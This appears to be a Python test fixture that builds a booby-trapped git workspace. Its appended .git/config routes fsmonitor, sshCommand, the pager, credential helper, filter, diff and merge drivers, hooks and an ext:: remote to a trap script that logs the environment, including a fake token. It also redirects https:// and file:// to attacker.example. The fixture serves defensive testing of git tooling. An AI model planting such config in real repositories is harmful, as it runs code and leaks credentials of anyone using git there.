"""A workspace that runs a program of the agent's for whoever uses git in it."""

from __future__ import annotations

import shutil
from pathlib import Path

from tests.forge.desk import write

SECRET = "ghs_" + "s3cr3t" * 8


def make_trap(folder: Path) -> Path:
    """A program that writes down that it was run, with its arguments and environment."""
    program = folder / "trap.sh"
    program.write_text(f'#!/bin/sh\n{{ echo "$0 $*"; env; }} >> {folder}/sprung\ncat\n')
    program.chmod(0o755)
    return program


def sprung(trap: Path) -> str:
    log = trap.with_name("sprung")
    return log.read_text() if log.exists() else ""


def hostile_config(trap: Path) -> str:
    included = trap.with_name("included")
    included.write_text(f"[core]\n\tfsmonitor = {trap}\n\tsshCommand = {trap}\n")
    return f"""
[include]
\tpath = {included}
[core]
\tfsmonitor = {trap}
\thooksPath = {trap.parent}/hooks
\tsshCommand = {trap}
\tpager = {trap}
\teditor = {trap}
\tgitProxy = {trap}
[filter "trap"]
\tclean = {trap}
\tsmudge = {trap}
\tprocess = {trap}
\trequired = true
[diff "trap"]
\ttextconv = {trap}
\tcommand = {trap}
[merge "trap"]
\tdriver = {trap}
[credential]
\thelper = {trap}
[url "https://attacker.example/"]
\tinsteadOf = https://
\tinsteadOf = file://
[remote "origin"]
\turl = ext::{trap}
\tuploadpack = {trap}
\treceivepack = {trap}
[protocol]
\tallow = always
"""


def set_traps(workspace: Path, trap: Path) -> None:
    git_dir = workspace / ".git"
    with (git_dir / "config").open("a") as config:
        config.write(hostile_config(trap))
    hooks = trap.parent / "hooks"
    for folder in (hooks, git_dir / "hooks"):
        folder.mkdir(exist_ok=True)
        for hook in (
            "pre-commit",
            "pre-push",
            "post-checkout",
            "post-index-change",
            "reference-transaction",
            "pre-auto-gc",
        ):
            shutil.copy(trap, folder / hook)
    write(
        workspace,
        {".gitattributes": "* filter=trap diff=trap merge=trap\n", ".git/info/attributes": "* filter=trap\n"},
    )
